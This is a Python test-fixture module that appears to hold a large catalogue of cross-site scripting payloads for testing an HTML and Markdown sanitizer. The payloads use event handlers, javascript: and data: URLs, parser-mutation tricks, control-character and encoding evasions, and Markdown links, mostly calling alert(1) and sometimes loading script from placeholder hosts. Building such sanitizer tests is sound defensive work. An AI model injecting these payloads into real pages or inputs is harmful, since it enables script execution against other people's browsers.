"""Attempts at scripting, for the tests: in the manners that sanitizers are known to have been passed by.

They follow the ideas of OWASP's filter-evasion cheat sheet, of html5sec, and of the tests of DOMPurify and ammonia, and are
written anew. Each is a body, or a part of one.
"""


def _lines(attempts: str) -> tuple[str, ...]:
    return tuple(attempts.strip("\n").split("\n"))


EVENTS = _lines(r"""
<img src=x onerror=alert(1)>
<img src="x" OnErRoR="alert(1)">
<img/src=x/onerror=alert(1)>
<img src='x'onerror='alert(1)'>
<img src=`x` onerror=`alert(1)`>
<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">
<img src=x onerror=&#0000097lert(1)>
<img src="https://p.example/1.jpg" alt="x" onload="alert(1)">
<img alt="><script>alert(1)</script>" src="https://p.example/1.jpg">
<img alt='" onerror="alert(1)' src="https://p.example/1.jpg">
<img src='https://p.example/1.jpg"onerror="alert(1)'>
<img src="https://p.example/1.jpg?&quot;&#32;onerror=&quot;alert(1)">
<a href="https://a.example/" onclick="alert(1)">x</a>
<a href="https://a.example/" onmouseover=alert(1)>x</a>
<a href='https://a.example/"onfocus="alert(1)" autofocus="'>x</a>
<a href="https://a.example/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>
<a onclick=alert(1)//href=https://a.example/>x</a>
<p onpointerenter="alert(1)">x</p>
<p style="animation-name:x" onanimationstart="alert(1)">x</p>
<div contenteditable onblur=alert(1)>x</div>
<details open ontoggle=alert(1)><summary>x</summary></details>
<body onload=alert(1)>x
<body background="javascript:alert(1)">x
<body onpageshow=alert(1) onhashchange=alert(1)>x</body>
<html onmouseover=alert(1)><p>x
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea autofocus onfocus=alert(1)>x</textarea>
<button onclick=alert(1)>x</button>
<video src=x onerror=alert(1)></video>
<video><source onerror="alert(1)"></video>
<video poster=javascript:alert(1)//></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 onfinish=alert(1)>x</marquee>
<isindex type=image src=1 onerror=alert(1)>
<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x<td>y<tr><td background="javascript:alert(1)">z<td>y</table>
<ol start="1&quot; onclick=&quot;alert(1)"><li>x</ol>
<ol start="1 onclick=alert(1)"><li value="javascript:alert(1)" onclick=alert(1)>x</ol>
<h1 id=x onclick=alert(1)>x</h1>
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite="javascript:alert(1)">x</q>
<del cite="javascript:alert(1)">x</del>
<xss onbeforescriptexecute=alert(1)>x</xss>
<custom-element is="x" onclick=alert(1)>x</custom-element>
<x onclick=alert(1) contenteditable>x</x>
<img src=x onerror=alert(1)//
<img src="x" onerror="alert(1)"
<p/onclick/=/alert(1)/>x
<p "onclick=alert(1)>x</p>
<p title="</p><img src=x onerror=alert(1)>">x</p>
<p title='x" onclick=alert(1) x="'>x</p>
""")

SCHEMES = _lines(r"""
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=javascript&colon;alert(1)>x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="jav&#x0A;ascript:alert(1)">x</a>
<a href="jav&#x0D;ascript:alert(1)">x</a>
<a href=" &#14;  javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x20;&#x1f;javascript:alert(1)">x</a>
<a href="&#xfeff;javascript:alert(1)">x</a>
<a href="&nbsp;javascript:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript&#x3A;alert(1)">x</a>
<a href="&amp;#106;avascript:alert(1)">x</a>
<a href="javascript:https://a.example/%0aalert(1)">x</a>
<a href="javascript://a.example/%0aalert(1)">x</a>
<a href="javascript:/*https://a.example/*/alert(1)">x</a>
<a href="javascript%3Aalert(1)">x</a>
<a href="%6Aavascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="mocha:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="DATA:text/html;charset=utf-7,+ADw-script+AD4-alert(1)">x</a>
<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>
<a href="blob:https://a.example/0">x</a>
<a href="filesystem:https://a.example/0">x</a>
<a href="file:///etc/passwd">x</a>
<a href="about:blank">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="jar:https://a.example/a.jar!/x.html">x</a>
<a href="intent://a.example/#Intent;scheme=javascript;end">x</a>
<a href="ms-msdt:/id">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="tel:+1-555">x</a>
<a href="ｊavascript:alert(1)">x</a>
<a href="јavascript:alert(1)">x</a>
<a href="javaſcript:alert(1)">x</a>
<a href="javascript：alert(1)">x</a>
<a href="ḣttps:javascript:alert(1)">x</a>
<a href="http:javascript:alert(1)">x</a>
<a href="https:&#10;javascript:alert(1)">x</a>
<a href="//javascript:alert(1)">x</a>
<a href="https://javascript:alert(1)@a.example/">x</a>
<a href="https:\\javascript:alert(1)">x</a>
<a href="https://a.example\@b.example/">x</a>
<a href='javascript:alert("https://a.example/")'>x</a>
<a href=javascript:alert(1) href=https://a.example/>x</a>
<a href=https://a.example/ href=javascript:alert(1)>x</a>
<a ping="javascript:alert(1)" href="https://a.example/">x</a>
<a target="_blank" rel="opener" href="https://a.example/">x</a>
<a href="https://a.example/" download="x.html" style="position:fixed;inset:0">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<area href="javascript:alert(1)" shape=default>
<map name=x><area href=javascript:alert(1) shape=rect coords=0,0,9,9></map><img usemap=#x src=https://p.example/1.jpg>
<img src="javascript:alert(1)">
<img src=javascript:alert(&quot;x&quot;)>
<img src="jav&#x0A;ascript:alert(1);">
<img src="vbscript:msgbox(1)">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="data:text/html,<script>alert(1)</script>">
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<img src="https://p.example/1.jpg" longdesc="javascript:alert(1)">
<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">
<img data-src="javascript:alert(1)" src="https://p.example/1.jpg">
<img data-lazy-srcset="javascript:alert(1) 9w">
<img src=https://p.example/1.jpg srcset="https://p.example/1.jpg 1x, javascript:alert(1) 3x">
<picture><source srcset="javascript:alert(1)"><img src="javascript:alert(1)"></picture>
<picture><source srcset="data:image/svg+xml,<svg/onload=alert(1)>"><img></picture>
<amp-img src="javascript:alert(1)" on="tap:x"></amp-img>
<img src="https://images.weserv.nl/?url=javascript:alert(1)">
<img src="https://images.weserv.nl/?url=javascript%3Aalert(1)%2F%2Fa.example">
<img src="https://substackcdn.com/image/fetch/w_1/javascript%3Aalert(1)">
<img src="https://i0.wp.com/javascript:alert(1)/x.y/z?ssl=1">
<iframe src="javascript:alert(1)"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe src="java&#9;script:alert(1)" title="<img src=x onerror=alert(1)>"></iframe>
<iframe src="https://v.example/" title="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<video src="javascript:alert(1)" title="x"></video>
<video><source src="javascript:alert(1)"></video>
<audio src="data:text/html,x"></audio>
""")

ELEMENTS = _lines(r"""
<script>alert(1)</script>
<SCRIPT SRC=https://a.example/x.js></SCRIPT>
<script src=//a.example/x.js>
<script/xss src="https://a.example/x.js"></script>
<<script>alert(1);//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script<script>>alert(1)</script></script>
<script>alert(1)
<script type="module">import "https://a.example/x.js"</script>
<script>/*<!--*/alert(1)//--></script>
<!--<script>--><script>alert(1)</script>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!-- x -- ><img src=x onerror=alert(1)>
<! foo="><img src=x onerror=alert(1)>">
<? foo="><img src=x onerror=alert(1)>">
</ foo="><img src=x onerror=alert(1)>">
<![CDATA[<img src=x onerror=alert(1)>]]>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<?xml-stylesheet href="javascript:alert(1)"?>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;" src="https://v.example/"></iframe>
<iframe src="https://v.example/" onload="alert(1)"><img src=x onerror=alert(1)></iframe>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)">x</object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object type="text/x-scriptlet" data="https://a.example/x.html"><param name=url value=javascript:alert(1)></object>
<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" AllowScriptAccess="always">
<applet code="x.class" codebase="javascript:alert(1)">x</applet>
<base href="javascript:alert(1)//"><a href="x">x</a>
<base href="https://evil.example/"><a href="x">x</a><img src="1.jpg">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0; URL=data:text/html,<script>alert(1)</script>">
<meta http-equiv="Set-Cookie" content="x=<script>alert(1)</script>">
<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<meta http-equiv="content-type" content="text/html; charset=UTF-7">+ADw-img src=x onerror=alert(1)+AD4-
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="https://a.example/x.html">
<link rel="manifest" href="data:x"><link rel="prefetch" href="https://a.example/">
<style>@import "https://a.example/x.css"; p { background: url(javascript:alert(1)) }</style>
<style><img src="</style><img src=x onerror=alert(1)>">
<style></style/><img src=x onerror=alert(1)>
<p style="background:url(javascript:alert(1))">x</p>
<p style="width: expression(alert(1))">x</p>
<p style="-moz-binding:url(https://a.example/x.xml#x)">x</p>
<p style="behavior:url(x.htc)" class="fixed" id="location" name="cookie">x</p>
<a style="position:fixed;inset:0;z-index:9" class=x id=y href=https://a.example/>x</a>
<form action="javascript:alert(1)"><input type=submit value=x></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<form><button formaction="javascript:alert(1)" type=submit>x</button>
<form><input name=attributes><input name=innerHTML><p onclick=alert(1)>x</form>
<input type=submit formaction=javascript:alert(1) value=x>
<isindex action="javascript:alert(1)" type=submit>
<keygen autofocus onfocus=alert(1)>
<menu type=context id=x><menuitem label=x onclick=alert(1)></menu>
<dialog open onclose=alert(1)><form method=dialog><button>x</form></dialog>
<bgsound src="javascript:alert(1)">
<layer src="https://a.example/x.html"></layer>
<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<slot name=x onslotchange=alert(1)>x</slot>
<plaintext><script>alert(1)</script>
<xmp><img src=x onerror=alert(1)></xmp>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><img src=x onerror=alert(1)></noframes>
<noscript><img src=x onerror=alert(1)></noscript>
<title><img src=x onerror=alert(1)></title>
<textarea><script>alert(1)</script></textarea>
<pre><img src=x onerror=alert(1)>&lt;script&gt;alert(1)&lt;/script&gt;</pre>
<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>
&lt;script&gt;alert(1)&lt;/script&gt;
&lt;img src=x onerror=alert(1)&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
¼script¾alert(1)¼/script¾
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\x3cscript\x3ealert(1)\u003c/script\u003e
{{constructor.constructor('alert(1)')()}}
${alert(1)} <%= alert(1) %> #{alert(1)}
<dl><dt onclick=alert(1)>x<dd style=x>y</dl>
""")

MUTATIONS = _lines(r"""
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><script href="data:,alert(1)" /></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>
<svg><set attributeName=onload to=alert(1) /></svg>
<svg><image xlink:href="javascript:alert(1)" href="data:image/svg+xml,x" onerror=alert(1)></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><a title="</style><img src onerror=alert(1)>"></style></p></svg>
<svg><title><a title="</title><img src onerror=alert(1)>"></a></title></svg>
<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>"></desc></svg>
<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>
<svg><!--</svg><img src=x onerror=alert(1)>--></svg>
<svg:script>alert(1)</svg:script>
<x xmlns=http://www.w3.org/2000/svg onload=alert(1)><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></x>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#https://a.example/" xlink:href="javascript:alert(1)">x</maction></math>
<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=alert(1)>"></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)></style></mglyph></form></mtext></math>
<math></p><style><!--</style><img src/onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<noscript>&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;</noscript>
<template><style></template><img src=x onerror=alert(1)></style>
<template><template></template><script>alert(1)</script></template>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">
<select><iframe><script>alert(1)</script></iframe></select>
<style><style/><img src=x onerror=alert(1)>
<style><!--</style><img src=x onerror=alert(1)>--></style>
<title><style></title><img src=x onerror=alert(1)></style>
<textarea></textarea/><img src=x onerror=alert(1)></textarea>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<plaintext><p title="</plaintext><img src=x onerror=alert(1)>">
<a><b><p><a href="javascript:alert(1)">x</b></a>
<p><svg><p><b onclick=alert(1)></svg>x
<table><svg><td><img src=x onerror=alert(1)></table>
<table><img src=x onerror=alert(1)><tr><td>x</table>
<table><tr><td><svg></td><style></td></svg><img src=x onerror=alert(1)></table>
<ul><li><svg><style></ul><img src=x onerror=alert(1)></style>
<b><b><b><b><p onclick=alert(1)></b></b></b></b>x
<a href="https://a.example/`onmouseover=alert(1)`">x</a>
<img src="https://p.example/1.jpg" alt="``onerror=alert(1)">
<img alt="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;" src="https://p.example/1.jpg">
<img alt="&lt;/style&gt;&lt;/title&gt;&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;" src="https://p.example/1.jpg">
<figure><svg onload=alert(1)><figcaption onclick=alert(1)><script>alert(1)</script>x</figcaption><img src=https://p.example/1.jpg></figure>
<img src="https://p.example/1.jpg" alt="--><script>alert(1)</script><!--">
<![endif]--><img src=x onerror=alert(1)><!--
<p>&NotARealEntity;<img src=x onerror=alert(1)&gt;>x
<p><b><code>y)</code></b><code>a`b &lt;img src=x onerror=alert(1)&gt;</code></p>
<p><code>a`b &lt;img src=x onerror=alert(1)&gt;</code><i><code>(y</code></i></p>
""")

CONTROLS = (
    "<img src=x onerror\n=alert(1)>",
    "<img src=x\tonerror\t=\talert(1)>",
    "<script\n>alert(1)</script\n>",
    "<pre>\n\n<img src=x onerror=alert(1)></pre>",
    '<img """><script>alert(1)</script>">',
    '<a href="jav\tascript:alert(1)">x</a>',
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x one\0rror=alert(1)>",
    "<\0img src=x onerror=alert(1)>",
    "<img\0src=x\0onerror=alert(1)>",
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="\0javascript:alert(1)">x</a>',
    '<a href="\x01\x02\x1fjavascript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    '<a href="java\u2028script:alert(1)">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<a href="\ufeffjavascript:alert(1)">x</a>',
    '<a href="\u3000javascript:alert(1)">x</a>',
    '<a href="\x0bjavascript\x0b:alert(1)">x</a>',
    '<a\x0chref="javascript:alert(1)"\x0conclick=alert(1)>x</a>',
    "<img\x0bsrc=x\x0bonerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "\U0010f03cscript\U0010f03ealert(1)\U0010f03c/script\U0010f03e",
    "\U0010f13cimg src=x onerror=alert(1)\U0010f13e",
    "<p>\U0010f200" + "0\U0010f200</p><pre><script>alert(1)</script> x = 1</pre>",
    "\ud83c<img src=x onerror=alert(1)>\udf75",
    "<img src=x onerror=alert(1) " + "a " * 3_000 + ">",
    "<svg>" * 200 + "<script>alert(1)</script>",
    "<math><mtext>" * 100 + "<img src=x onerror=alert(1)>",
    "<div>" * 600 + "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '<table><td><a href="javascript:alert(1)">' * 60,
)
"""What does not go on a line: line breaks, null bytes, other controls, the writers' own stand-ins, lone surrogates, nesting."""

MARKDOWN = _lines(r"""
[x](javascript:alert(1))
[x](<javascript:alert(1)>)
[x](JaVaScRiPt:alert(1) "title")
[x](javascript&colon;alert(1))
[x](javascript&#58;alert&#40;1&#41;)
[x](java&#x0A;script:alert(1))
[x](\javascript:alert(1))
[x](javascript\:alert(1))
[x]( javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](javascript://a.example/%0Aalert(1))
[x](https://a.example/" onclick="alert(1))
[x](https://a.example/ "x\" onclick=\"alert(1)")
[x](<https://a.example/"><script>alert(1)</script>>)
[x](https://a.example/'onclick='alert(1))
[x][1] [1]: javascript:alert(1)
[x]: javascript:alert(1) "y"
![x](javascript:alert(1))
![x](data:text/html,<script>alert(1)</script>)
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![x" onerror="alert(1)](https://p.example/1.jpg)
![x](https://p.example/1.jpg"onerror="alert(1))
!["><script>alert(1)</script>](https://p.example/1.jpg)
![](https://p.example/1.jpg "x\"onload=alert(1)")
[![x](data:text/html,x)](javascript:alert(1))
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,alert(1)>
<vbscript:msgbox(1)>
<https://a.example/"onclick=alert(1)>
<x@a.example"onclick=alert(1)>
**x** <script>alert(1)</script> **y**
- x <img src=x onerror=alert(1)>
> <iframe src=javascript:alert(1)></iframe>
# <svg onload=alert(1)> #
`<script>alert(1)</script>`
``` <script>alert(1)</script> ```
~~~ html" onclick="alert(1)
x | <img src=x onerror=alert(1)> | [y](javascript:alert(1))
\<script>alert(1)\</script>
&lt;script&gt;alert(1)&lt;/script&gt; **x** [y](https://a.example/)
[x](&#106;avascript:alert(1)) *x*
[a](https://a.example/) [<img src=x onerror=alert(1)>](https://a.example/)
[x](https://a.example/\)<script>alert(1)</script>)
<a href="javascript:alert(1)">**x**</a> and [y](z)
<!-- --> <img src=x onerror=alert(1)> *x*
1. [x](feed:javascript:alert(1))
[x](ｊavascript:alert(1)) [y](јavascript:alert(1))
[x](file:///etc/passwd) [y](about:blank) [z](blob:https://a.example/0)
""")

ATTEMPTS = EVENTS + SCHEMES + ELEMENTS + MUTATIONS + CONTROLS + MARKDOWN
